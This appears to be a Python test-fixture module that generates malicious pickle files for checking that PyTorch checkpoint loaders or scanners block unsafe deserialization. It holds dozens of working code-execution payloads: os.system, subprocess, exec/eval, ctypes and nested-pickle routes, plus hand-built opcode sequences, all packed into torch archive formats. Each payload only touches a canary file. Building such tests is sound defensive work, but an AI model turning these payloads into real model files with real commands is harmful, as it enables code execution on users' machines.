"""Malicious pickles: each would make a file, a canary, when it is unpickled without care."""

import importlib
import marshal
import os
import pickle
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from functools import partial
from io import BytesIO
from pathlib import Path
from typing import Any

import torch


class Call:
    """Pickled as a call: unpickling it without care makes the call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.reduced = (function, arguments)

    def __reduce__(self) -> Any:
        return self.reduced

    def __call__(self) -> None:
        """A pickler requires that what it writes as a function is callable."""


def calls(canary: str, script: str) -> dict[str, Any]:
    """Calls that would all make the file `canary`, by every road that Python and torch leave open."""
    shell, code = f"touch {canary}", f"open({canary!r}, 'w').close()"
    inner = pickle.dumps(Call(os.system, shell))
    archive = torch_archive(inner)
    module = Call(importlib.import_module, "os")
    function = Call(getattr, Call(importlib.import_module, "types"), "FunctionType")
    return {
        "os.system": Call(os.system, shell),
        "os.popen": Call(Call(getattr, Call(os.popen, shell), "read")),
        "os.mkdir": Call(os.mkdir, canary),
        "os.makedirs": Call(os.makedirs, canary),
        "os.open": Call(os.open, canary, os.O_CREAT | os.O_WRONLY),
        "os.mknod": Call(os.mknod, canary),
        "os.symlink": Call(os.symlink, "/dev/null", canary),
        "os.spawnv": Call(os.spawnv, os.P_WAIT, shutil.which("touch"), ["touch", canary]),
        "os.rename": Call(os.rename, Call(shutil.copy, script, script + ".copy"), canary),
        "open": Call(open, canary, "w"),
        "io.FileIO": Call(importlib.import_module("io").FileIO, canary, "w"),
        "exec": Call(exec, code),
        "eval": Call(eval, code),
        "compile and eval": Call(eval, Call(compile, code, "x", "eval")),
        "getattr of a module": Call(Call(getattr, module, "system"), shell),
        "list of a map": Call(list, Call(map, os.system, [shell])),
        "subprocess.run": Call(subprocess.run, ["touch", canary]),
        "subprocess.call": Call(subprocess.call, ["touch", canary]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", canary]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "subprocess.Popen": Call(Call(getattr, Call(subprocess.Popen, ["touch", canary]), "wait")),
        "shutil.copyfile": Call(shutil.copyfile, script, canary),
        "runpy.run_path": Call(importlib.import_module("runpy").run_path, script),
        "importlib": Call(importlib.machinery.SourceFileLoader("x", script).load_module),
        "timeit": Call(
            importlib.import_module("timeit").timeit, code, "pass", importlib.import_module("time").time, 1
        ),
        "cProfile": Call(importlib.import_module("cProfile").run, code, script + ".profile"),
        "code of marshal": Call(
            Call(function, Call(marshal.loads, marshal.dumps(compile(code, "x", "exec"))), {})
        ),
        "ctypes": Call(
            Call(getattr, Call(importlib.import_module("ctypes").CDLL, None), "system"), shell.encode()
        ),
        "partial": Call(partial(os.system, shell)),
        "methodcaller": Call(importlib.import_module("operator").methodcaller("system", shell), module),
        "pathlib": Call(Path.touch, Path(canary)),
        "logging": Call(importlib.import_module("logging").FileHandler, canary),
        "sqlite3": Call(importlib.import_module("sqlite3").connect, canary),
        "zipfile": Call(zipfile.ZipFile, canary, "w"),
        "numpy": Call(importlib.import_module("numpy").savetxt, canary, [1]),
        "torch.save": Call(torch.save, {}, canary),
        "torch.load": Call(partial(torch.load, weights_only=False), Call(BytesIO, archive)),
        "torch.storage": Call(torch.storage._load_from_bytes, archive),
        "torch.jit": Call(
            importlib.import_module("torch.jit.unsupported_tensor_ops").execWrapper, code, {}, {}
        ),
        "torch.collect_env": Call(importlib.import_module("torch.utils.collect_env").run, shell),
        "pickle.loads": Call(pickle.loads, inner),
        "pickle in a pickle in a pickle": Call(pickle.loads, pickle.dumps(Call(pickle.loads, inner))),
        "as a weight": {"model": {"wte.weight": Call(os.system, shell)}},
        "as a name": {"model": {Call(os.system, shell): torch.ones(2)}},
        "beside weights": {
            "model": {"wte.weight": torch.ones(2)},
            "optimizer": [{"state": Call(os.system, shell)}],
        },
        "as a setting": {"model": {}, "model_args": {"n_head": Call(eval, code)}},
    }


def opcodes(canary: str) -> dict[str, bytes]:
    """The same by hand, in opcodes that no pickler writes today."""
    text = f"touch {canary}".encode()
    line, long = b"S'" + text + b"'\n", b"X" + len(text).to_bytes(4, "little") + text
    by_stack = b"\x8c\x02os\x8c\x06system\x93" + long + b"\x85R."
    return {
        "GLOBAL": b"cos\nsystem\n(" + line + b"tR.",
        "GLOBAL of posix": b"cposix\nsystem\n(" + long + b"tR.",
        "GLOBAL by its old name": b'c__builtin__\neval\n(S\'__import__("os").system("' + text + b"\")'\ntR.",
        "STACK_GLOBAL": b"\x80\x04" + by_stack,
        "STACK_GLOBAL in a frame": b"\x80\x04\x95" + len(by_stack).to_bytes(8, "little") + by_stack,
        "STACK_GLOBAL with a dot": b"\x80\x04\x8c\x06shutil\x8c\x09os.system\x93" + long + b"\x85R.",
        "INST": b"(" + line + b"ios\nsystem\n.",
        "OBJ": b"(cos\nsystem\n" + line + b"o.",
        "NEWOBJ, then a call": b"\x80\x02ctypes\nSimpleNamespace\n)\x810cos\nsystem\n" + long + b"\x85R.",
        "BUILD": b"ctypes\nSimpleNamespace\n)R}(S'__setstate__'\ncos\nsystem\nub" + line + b"b.",
        "memo": b"cos\nsystem\np0\n0(" + line + b"tp1\n0g0\ng1\nR.",
        "binary memo": b"\x80\x02cos\nsystem\nq\x000" + long + b"\x85q\x010h\x00h\x01R.",
        "APPENDS": b"](cos\nsystem\n(" + line + b"tRe.",
        "SETITEMS": b"}(S'model'\ncos\nsystem\n(" + line + b"tRu.",
        "in a set": b"\x80\x04\x8f(cos\nsystem\n" + long + b"\x85R\x90.",
        "dropped again": b"cos\nsystem\n(" + line + b"tR0}.",
    }


def torch_archive(content: bytes) -> bytes:
    """What `torch.save` writes today, with another pickle in it."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in (("data.pkl", content), ("version", b"3\n"), ("byteorder", b"little")):
            archive.writestr(f"archive/{name}", data)
    return target.getvalue()


def torch_sequence(content: bytes) -> bytes:
    """What `torch.save` wrote before 2020, with another pickle in it."""
    head = (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    return b"".join(pickle.dumps(part, protocol=2) for part in head) + content + pickle.dumps([], protocol=2)


CONTAINERS = (torch_archive, bytes, torch_sequence)
SUFFIXES = (".pt", ".bin", ".pth", ".ckpt")


NAMES = (*calls("x", "y"), *opcodes("x"))


def malicious(name: str, canary: Path, *, script: Path, form: int) -> bytes:
    """One of them as a file, in one of three containers and four protocols; `script` is written for those that run it."""
    script.write_text(f"open({str(canary)!r}, 'w').close()\n")
    content = (calls(str(canary), str(script)) | opcodes(str(canary)))[name]
    if not isinstance(content, bytes):
        content = pickle.dumps(content, protocol=2 + form % 4)
    return CONTAINERS[form % 3](content)
